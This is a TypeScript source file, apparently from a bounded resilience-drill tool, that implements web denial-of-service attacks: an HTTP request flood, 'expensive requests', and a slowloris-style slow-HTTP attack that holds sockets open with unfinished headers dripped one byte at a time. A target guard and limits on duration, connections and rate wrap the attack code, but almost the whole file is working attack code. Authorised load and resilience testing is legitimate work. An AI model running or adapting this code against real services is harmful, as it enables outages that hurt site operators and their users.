import http from 'node:http';
import { connect, type Socket } from 'node:net';
import { type Clock, systemClock } from '../runtime/clock.ts';
import { MoveError } from '../runtime/errors.ts';
import { guardTarget, isPermitted, type LoadRequest } from './target-guard.ts';

export interface WebAttackSummary {
  /** Requests that were sent; of slow HTTP, connections that were opened. */
  requests: number;
  failures: number;
  /** Milliseconds since the epoch. */
  firstPacketAt: number;
  lastPacketAt: number;
  /** Megabits a second of answers that it drew. */
  offeredMbit: number;
  ended: 'complete' | 'stopped';
}

/** What is asked for, and by what name. */
export interface WebAttackShape {
  path: string;
  /** The Host header. */
  hostname: string;
}

type WebAttack = Extract<LoadRequest, { purpose: 'http-flood' | 'slow-http' | 'expensive-requests' }>;

const TICK_MS = 20;
/** Between two bytes of a request that is never completed. */
const DRIP_MS = 400;
const REQUEST_LIMIT_MS = 5_000;

/**
 * Attacks a site by requests, as a bounded drill: many of them (`http-flood`), such as cost the service much
 * (`expensive-requests`), or connections on which a request is never completed (`slow-http`). Bounded by seconds,
 * connections and requests a second; it asks the guard itself before its first connection.
 * @throws MoveError `FLOOD_REFUSED` from the guard.
 */
export async function sendWebAttack(
  request: unknown,
  shape: WebAttackShape,
  signal: AbortSignal,
  onFirstPacket: (at: number) => void,
  clock: Clock = systemClock,
): Promise<WebAttackSummary> {
  const attack = guardTarget(request);
  if (!isWebAttack(attack) || !isPermitted(attack))
    throw new MoveError('FLOOD_REFUSED', 'This program sends attacks by requests only.');
  const over = AbortSignal.any([signal, AbortSignal.timeout(Math.ceil(attack.seconds * 1000))]);
  const count = { requests: 0, failures: 0, bytes: 0 };
  const firstPacketAt = clock.now();
  onFirstPacket(firstPacketAt);
  if (attack.purpose === 'slow-http') await hold(attack, shape, over, count);
  else await ask(attack, shape, over, count);
  const lastPacketAt = clock.now();
  return {
    requests: count.requests,
    failures: count.failures,
    firstPacketAt,
    lastPacketAt,
    offeredMbit: (count.bytes * 8) / 1000 / Math.max(1, lastPacketAt - firstPacketAt),
    ended: signal.aborted ? 'stopped' : 'complete',
  };
}

interface Count {
  requests: number;
  failures: number;
  bytes: number;
}

function ask(
  attack: Exclude<WebAttack, { purpose: 'slow-http' }>,
  shape: WebAttackShape,
  over: AbortSignal,
  count: Count,
): Promise<void> {
  const agent = new http.Agent({ keepAlive: true, maxSockets: attack.connections });
  let waiting = 0;
  const send = () => {
    waiting += 1;
    count.requests += 1;
    const asked = http.get({
      host: attack.address,
      port: attack.port,
      path: shape.path,
      headers: { Host: shape.hostname, 'Accept-Encoding': 'gzip' },
      agent,
      timeout: REQUEST_LIMIT_MS,
    });
    asked.on('response', (answer) => {
      answer.on('data', (chunk: Buffer) => {
        count.bytes += chunk.length;
      });
      answer.on('error', () => undefined);
    });
    asked.on('timeout', () => asked.destroy(new Error('no answer')));
    asked.on('error', () => {
      count.failures += 1;
    });
    asked.on('close', () => {
      waiting -= 1;
    });
  };
  return new Promise((resolve) => {
    let credited = 1;
    const timer = setInterval(() => {
      credited = Math.min(credited + (attack.requestsPerSecond * TICK_MS) / 1000, attack.connections);
      for (; credited >= 1; credited -= 1) {
        // Each connection carries one request at a time; what finds none free is not sent.
        if (waiting < attack.connections) send();
      }
    }, TICK_MS);
    const finish = () => {
      clearInterval(timer);
      agent.destroy();
      resolve();
    };
    over.addEventListener('abort', finish, { once: true });
    if (over.aborted) finish();
  });
}

function hold(attack: WebAttack, shape: WebAttackShape, over: AbortSignal, count: Count): Promise<void> {
  const sockets = new Set<Socket>();
  const open = () => {
    const socket = connect({ host: attack.address, port: attack.port });
    sockets.add(socket);
    count.requests += 1;
    socket.on('connect', () => socket.write(`GET ${shape.path} HTTP/1.1\r\nHost: ${shape.hostname}\r\nX-`));
    socket.on('error', () => {
      count.failures += 1;
    });
    socket.on('data', (chunk: Buffer) => {
      count.bytes += chunk.length;
    });
    socket.on('close', () => sockets.delete(socket));
  };
  return new Promise((resolve) => {
    const drip = setInterval(() => {
      for (const socket of sockets) if (socket.writable && !socket.connecting) socket.write('a');
      // Opened again at the pace of the drip, should the service hang up.
      for (let at = sockets.size; at < attack.connections; at += 1) open();
    }, DRIP_MS);
    for (let at = 0; at < attack.connections; at += 1) open();
    const finish = () => {
      clearInterval(drip);
      for (const socket of sockets) socket.destroy();
      resolve();
    };
    over.addEventListener('abort', finish, { once: true });
    if (over.aborted) finish();
  });
}

function isWebAttack(request: LoadRequest): request is WebAttack {
  return (
    request.purpose === 'http-flood' ||
    request.purpose === 'slow-http' ||
    request.purpose === 'expensive-requests'
  );
}
